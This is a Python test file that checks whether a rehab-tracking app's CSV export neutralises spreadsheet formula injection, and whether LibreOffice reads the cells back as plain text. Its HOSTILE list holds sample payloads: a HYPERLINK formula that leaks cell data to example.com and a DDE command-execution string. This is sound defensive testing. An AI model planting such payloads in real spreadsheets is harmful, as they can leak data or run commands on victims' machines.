"""Export safety: hostile text in every field a person types comes out neutralised in the
CSVs, and both Python's csv module and LibreOffice Calc read the same cells back.

A text cell starting with =, +, -, @, tab or CR gets a leading apostrophe (OWASP, CSV
injection). LibreOffice (Debian's libreoffice-calc, headless) converts each CSV to xlsx and
back: in the xlsx no cell is a formula, a neutralised cell is text that keeps its
apostrophe, and a number is a number; the CSV it writes back holds the same cells as
Python's reading of ours. The test is skipped only where ``soffice`` is not installed
(.ci/run installs it). tests/core/test_export.py covers the cell rules and a failed export;
tests/reliability/test_damaged_files.py a real full disk.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from core.demo import create_demo
from core.export import FORMULA_STARTS, export
from core.model import Actor, ReadinessTest, Stage

END = dt.date(2026, 6, 28)
HOSTILE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1 after a tab",
    "\r=1+1 after a CR",
    "=cmd|' /C calc'!A0",
]
AWKWARD = [  # not formulas: kept exactly
    'Knee "clicky", then fine',
    "first line\nsecond line",
    "emoji 🏃‍♀️ and עברית and العربية",
    "'already quoted",
    "x" * 5000,
]


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> tuple[Path, list[str]]:
    """A 12-week demo plus every hostile text in every field a person types."""
    folder = tmp_path_factory.mktemp("export")
    runback = create_demo(folder / "runner.db", weeks=12, end=END)
    texts = HOSTILE + AWKWARD
    days = [END - dt.timedelta(days=n) for n in range(len(texts))]
    for text, day in zip(texts, days, strict=True):
        runback.log_cross_training("swim", 20, 3, 0, notes=text, date=day)
        runback.log_walk_run(8, 1, 2, 1, 4, notes=text, date=day)
        runback.log_run("easy", 25, 4, 1, notes=text, date=day)
        runback.log_readiness(ReadinessTest.JOG_ON_SPOT, True, 1, notes=text, date=day)
        runback.change_plan("pain.threshold", 3, text, Actor.PHYSIO)
    runback.set_stage(Stage.MECHANICS, HOSTILE[0])
    export(runback, folder / "out")
    runback.close()
    return folder / "out", texts


def neutral(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def test_hostile_text_is_neutralised_in_every_field_of_both_files(exported):
    out, texts = exported
    sessions, summary = read(out / "sessions.csv"), read(out / "summary.csv")
    header = sessions[0]
    notes = [r[header.index("notes")] for r in sessions[1:]]
    reasons = [r[header.index("reason")] for r in sessions[1:]
               if r[header.index("entry")] == "plan_change"]
    for text in texts:
        # the notes of three sessions and a readiness check, each kept exactly
        assert notes.count(neutral(text)) == 4, text[:30]
        # a physio's reason, kept without the spaces around it (and so without the tab/CR)
        assert neutral(text.strip()) in reasons, text[:30]
    for table in (sessions, summary):
        for row in table[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell[:40]
    stage_rows = [r for r in sessions[1:] if r[header.index("entry")] == "stage_event"]
    assert stage_rows[-1][header.index("reason")] == "'" + HOSTILE[0]


# --- LibreOffice ------------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def soffice(profile: Path, outdir: Path, target: str, *files: Path, infilter: str = ""
            ) -> None:
    command = [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
               "--convert-to", target, "--outdir", str(outdir)]
    if infilter:
        command.append(f"--infilter={infilter}")
    result = subprocess.run([*command, *map(str, files)], capture_output=True, text=True,
                            timeout=240)
    assert result.returncode == 0, result.stderr
    for path in files:
        produced = outdir / f"{path.stem}.{target.split(':')[0]}"
        assert produced.exists(), (result.stdout, result.stderr)


def xlsx_cells(path: Path) -> dict[tuple[int, int], tuple[str, str, bool]]:
    """Every cell of the first sheet: (row, column) -> (type, text, is a formula)."""
    with zipfile.ZipFile(path) as book:
        strings = []
        if "xl/sharedStrings.xml" in book.namelist():
            for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")):
                strings.append("".join(t.text or "" for t in item.iter(f"{MAIN}t")))
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(f"{MAIN}c"):
        reference = cell.get("r")
        letters = "".join(ch for ch in reference if ch.isalpha())
        column = 0
        for letter in letters:
            column = column * 26 + ord(letter) - 64
        row = int(reference[len(letters):])
        kind = cell.get("t", "n")
        value = cell.find(f"{MAIN}v")
        text = value.text if value is not None else ""
        if kind == "s":
            text = strings[int(text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        cells[(row, column)] = (kind, text, cell.find(f"{MAIN}f") is not None)
    return cells


@pytest.fixture(scope="module")
def libreoffice(exported, tmp_path_factory) -> dict[str, tuple[Path, Path]]:
    """Each CSV converted by LibreOffice to xlsx, and that xlsx back to CSV."""
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed; .ci/run installs "
                    "libreoffice-calc")
    out, _ = exported
    work = tmp_path_factory.mktemp("libreoffice")
    profile, books, back = work / "profile", work / "xlsx", work / "csv"
    names = ("sessions", "summary")
    # comma, double quote, UTF-8 (76), from line 1: the export's own format
    soffice(profile, books, "xlsx", *(out / f"{n}.csv" for n in names),
            infilter="CSV:44,34,76,1")
    soffice(profile, back, "csv:Text - txt - csv (StarCalc):44,34,76,1",
            *(books / f"{n}.xlsx" for n in names))
    return {n: (books / f"{n}.xlsx", back / f"{n}.csv") for n in names}


@pytest.mark.parametrize("name", ["sessions", "summary"])
def test_libreoffice_reads_the_same_cells_as_python(exported, libreoffice, name):
    out, _ = exported
    ours = read(out / f"{name}.csv")
    book, back = libreoffice[name]
    cells = xlsx_cells(book)
    assert not [ref for ref, (_, _, formula) in cells.items() if formula], "a formula ran"
    for r, row in enumerate(ours, start=1):
        for c, text in enumerate(row, start=1):
            kind, value, _ = cells.get((r, c), ("", "", False))
            if text == "":
                assert value == "", (r, c)
            elif is_number(text):
                assert kind == "n" and float(value) == pytest.approx(float(text)), (r, c, text)
            elif _is_iso_date(text):
                assert kind == "n", (r, c, text)  # a real date, not text
            else:
                assert kind in ("s", "inlineStr", "str"), (r, c, text[:40])
                assert value == one_line_break(text), (r, c, text[:40])
    theirs = read_back(back)
    assert theirs == [[one_line_break(text) for text in row] for row in ours]


def one_line_break(text: str) -> str:
    """LibreOffice keeps every line break inside a cell as a line feed: a CR (or CR LF) in
    a note comes back as LF. The cell is still the same text, neutralised or not."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _is_iso_date(text: str) -> bool:
    try:
        dt.date.fromisoformat(text)
    except ValueError:
        return False
    return len(text) == 10


def read_back(path: Path) -> list[list[str]]:
    """LibreOffice's CSV: no byte-order mark, LF line ends; the cells are what count."""
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
